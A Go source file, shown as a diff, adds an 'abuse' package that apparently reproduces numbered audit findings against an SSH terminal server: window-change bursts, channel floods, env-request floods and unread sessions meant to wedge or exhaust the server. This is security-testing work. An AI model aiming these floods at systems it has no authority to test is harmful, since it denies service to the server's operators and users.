@@ -1,0 +1,156 @@
+package abuse
+
+import (
+	"context"
+	"fmt"
+	"strings"
+	"time"
+
+	"golang.org/x/crypto/ssh"
+)
+
+// ResizeBurst is finding 2: a keyless session at 200x60 that never reads
+// its output sends n window changes in a burst (the sizes alternate, so
+// each one is a full repaint), then drops the TCP connection without
+// closing its channel, as a client that vanished does. On a server whose
+// request loop waits for its program, the connection stays wedged.
+func ResizeBurst(ctx context.Context, t Target, n int) error {
+	client, conn, err := dial(ctx, t, nil)
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	sess, err := client.NewSession()
+	if err != nil {
+		return err
+	}
+	if err := startTUI(sess, 200, 60, false); err != nil {
+		return err
+	}
+	// A server that stops reading the connection must not hold the burst
+	// up for longer than one wait.
+	_ = conn.SetWriteDeadline(time.Now().Add(t.wait()))
+	for i := range n {
+		if ctx.Err() != nil {
+			break
+		}
+		w, h := 200-i%2, 60-i%3
+		if _, err := sess.SendRequest("window-change", false, windowPayload(uint32(w), uint32(h))); err != nil {
+			break // the server stopped reading: the point is made
+		}
+	}
+	return conn.Close() // no channel close, no disconnect message
+}
+
+// ChannelFlood is finding 6: up to n session channels on one keyless
+// connection, each with a PTY and the interface, output read and thrown
+// away. They stay open until Close.
+func ChannelFlood(ctx context.Context, t Target, n int) (*Held, error) {
+	client, _, err := dial(ctx, t, nil)
+	if err != nil {
+		return nil, err
+	}
+	h := &Held{}
+	h.keep(client)
+	for range n {
+		if ctx.Err() != nil {
+			break
+		}
+		sess, err := client.NewSession()
+		if err != nil {
+			h.Refused++
+			continue
+		}
+		if err := startTUI(sess, 80, 24, true); err != nil {
+			h.Refused++
+			_ = sess.Close()
+			continue
+		}
+		h.Opened++
+		h.watch(sess)
+	}
+	return h, nil
+}
+
+// EnvFlood is finding 7: sessions keyless sessions, each sending requests
+// env requests with values of size bytes before its PTY request. Half the
+// names look like locale variables (LC_*), which a server may keep, so
+// the count and size bounds are tried too. The sessions stay open until
+// Close.
+func EnvFlood(ctx context.Context, t Target, sessions, requests, size int) (*Held, error) {
+	h := &Held{}
+	value := strings.Repeat("v", size)
+	for range sessions {
+		client, _, err := dial(ctx, t, nil)
+		if err != nil {
+			h.Close()
+			return nil, err
+		}
+		h.keep(client)
+		sess, err := client.NewSession()
+		if err != nil {
+			h.Refused++
+			continue
+		}
+		for i := range requests {
+			if ctx.Err() != nil {
+				h.Close()
+				return nil, ctx.Err()
+			}
+			name := fmt.Sprintf("FLOOD_%d", i)
+			if i%2 == 1 {
+				name = fmt.Sprintf("LC_FLOOD_%d", i)
+			}
+			// A refusal is the server doing its job; keep sending.
+			_ = sess.Setenv(name, value)
+		}
+		if err := startTUI(sess, 80, 24, true); err != nil {
+			h.Refused++
+			continue
+		}
+		h.Opened++
+		h.watch(sess)
+	}
+	return h, nil
+}
+
+// UnreadSessions is finding 6's second half: n keyless sessions with a
+// window w wide (a server clamps it) that never read their output. Each
+// then changes its size resizes times, a few milliseconds apart, so that
+// even clamped frames fill the channel window and the session's output
+// cannot drain. The sessions stay open until Close or until the server
+// closes them (see Held.Ended).
+func UnreadSessions(ctx context.Context, t Target, n, w, h, resizes int) (*Held, error) {
+	held := &Held{}
+	var sessions []*ssh.Session
+	for range n {
+		client, _, err := dial(ctx, t, nil)
+		if err != nil {
+			held.Close()
+			return nil, err
+		}
+		held.keep(client)
+		sess, err := client.NewSession()
+		if err != nil {
+			held.Refused++
+			continue
+		}
+		if err := startTUI(sess, w, h, false); err != nil {
+			held.Refused++
+			continue
+		}
+		held.Opened++
+		held.watch(sess)
+		sessions = append(sessions, sess)
+	}
+	for i := range resizes {
+		for _, sess := range sessions {
+			// Without a reply: a wedged server would hold a reply forever.
+			_, _ = sess.SendRequest("window-change", false, windowPayload(uint32(w), uint32(h-i%2)))
+		}
+		if err := sleep(ctx, 5*time.Millisecond); err != nil {
+			break
+		}
+	}
+	return held, nil
+}
